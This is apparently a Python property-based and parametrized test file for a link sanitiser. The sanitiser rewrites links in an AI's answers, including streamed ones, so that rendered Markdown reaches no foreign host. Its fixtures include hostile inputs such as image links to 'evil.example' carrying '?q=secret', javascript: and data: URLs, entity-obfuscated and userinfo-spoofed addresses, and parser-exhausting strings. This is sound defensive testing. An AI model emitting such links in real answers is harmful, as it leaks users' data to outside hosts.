"""Nothing in an answer leads to, or loads from, a host that was not allowed."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from guardrails.injection.links import safe, settled

OURS = ("docs.example.com",)
PIECES = [
    "[", "]", "(", ")", "!", "<", ">", ":", "\\", "`", " ", "\n", "x", "//", "https:", "http:",
    "javascript:alert(1)", "data:text/html,x", "www.", "evil.example", "docs.example.com", "@",
    "&#104;ttps://evil.example", "/p?q=secret", '"t"', "![a](https://evil.example/a)", "[r]: ",
]  # fmt: skip
OUTSIDE_NOTHING = r"(https?://docs\.example\.com(:\d+)?([/?#].*)?|/(?!/).*|#.*|mailto:.*|)"
jumbles = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


def targets(text: str) -> list[str]:
    """What a real renderer would link to or load."""
    found = []
    ahead = MarkdownIt("commonmark").parse(text)
    while ahead:
        token = ahead.pop()
        ahead += token.children or []
        found += [str(token.attrs[name]) for name in ("href", "src") if name in token.attrs]
    return found


@given(jumbles)
def test_a_renderer_finds_no_address_outside(text: str) -> None:
    shown = safe(text, OURS)
    for target in targets(shown):
        assert re.fullmatch(OUTSIDE_NOTHING, target), (shown, target)


@given(jumbles)
def test_no_address_is_left_that_a_renderer_links_by_itself(text: str) -> None:
    shown = safe(text, OURS)
    left = re.findall(r"(?i)(?:\bhttps?://|(?<![\w.`])www\.)([\w.-]+)(@?)", shown)
    assert [host for host, at in left if at or host.lower().rstrip(".") != OURS[0]] == []


@given(jumbles)
def test_what_is_safe_stays_as_it_is(text: str) -> None:
    once = safe(text, OURS)
    assert targets(safe(once, OURS)) == targets(once)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[Terms](https://docs.example.com/terms)", "[Terms](https://docs.example.com/terms)"),
        ("[Draft 7](/drafts/7?tab=lines#top)", "[Draft 7](/drafts/7?tab=lines#top)"),
        ("See https://docs.example.com/a.", "See https://docs.example.com/a."),
        ("[Pay here](https://evil.example/pay?x=1)", "Pay here (`evil.example`)"),
        ("![](https://evil.example/?q=secret)", "picture (`evil.example`)"),
        (
            "[![logo](https://a.example/l.png)](https://b.example)",
            "logo (`a.example`) (`b.example`)",
        ),
        ("(see https://evil.example/x)", "(see `evil.example`)"),
        ("Go to www.evil.example/x, now.", "Go to `evil.example`, now."),
        ("<https://evil.example/x>", "<`evil.example`>"),
        ("<javascript:pay()>", "< javascript:pay() >"),
        ("<https://docs.example.com/x>", "<https://docs.example.com/x>"),
        ("<mailto:anna@tannerie.example>", "<mailto:anna@tannerie.example>"),
        ("https://docs.example.com)@evil.example/", "`docs.example.com`)@evil.example/"),
        ("https://docs.example.com@evil.example/", "`evil.example`"),
        ("[x](//evil.example)", "x (`evil.example`)"),
        ("[x](javascript:alert(1))", "x (`javascript`))"),
        ("[r]: https://evil.example", "[r] : `evil.example`"),
        ("3 // 4, and/or, 10:30, a:b", "3 // 4, and/or, 10:30, a:b"),
        ("Write to anna@tannerie.example", "Write to anna@tannerie.example"),
    ],
)
def test_a_foreign_link_becomes_words_and_its_host(text: str, shown: str) -> None:
    assert safe(text, OURS) == shown


@pytest.mark.parametrize("text", ["[" * 20_000, "![a](" * 4_000, "](" * 10_000, "a:" * 10_000])
def test_a_crafted_answer_ends(text: str) -> None:
    assert isinstance(safe(text, OURS), str)


def streamed(chunks: list[str]) -> str:
    shown, waiting = "", ""
    for chunk in chunks:
        part, waiting = settled(waiting + chunk, OURS)
        shown += part
    return shown + safe(waiting, OURS)


@given(st.lists(jumbles, max_size=6))
def test_a_text_that_arrives_in_pieces_is_as_safe_as_a_whole_one(chunks: list[str]) -> None:
    shown = streamed(chunks)
    for target in targets(shown):
        assert re.fullmatch(OUTSIDE_NOTHING, target), (shown, target)
    left = re.findall(r"(?i)(?:\bhttps?://|(?<![\w.`])www\.)([\w.-]+)(@?)", shown)
    assert [host for host, at in left if at or host.lower().rstrip(".") != OURS[0]] == []


@given(st.integers(1, 9))
def test_a_sentence_in_pieces_reads_like_the_sentence(step: int) -> None:
    text = (
        "See [the terms](https://docs.example.com/t) and ![a b](https://evil.example/q?x=1), or "
        "[1] of https://evil.example/y - no more than (2) [x] [pay now]( https://evil.example ).\n"
    )
    pieces = [text[at : at + step] for at in range(0, len(text), step)]
    assert streamed(pieces) == safe(text, OURS)


def test_what_can_be_shown_is_shown_at_once() -> None:
    assert settled("Lambskin is 14.20 EU", OURS) == ("Lambskin is 14.20 ", "EU")
    assert settled("See [the te", OURS) == ("See ", "[the te")
    assert settled("A [note] on it ", OURS) == ("A [note] on it ", "")
    assert settled("[" + "a " * 2_000, OURS)[1] == ""
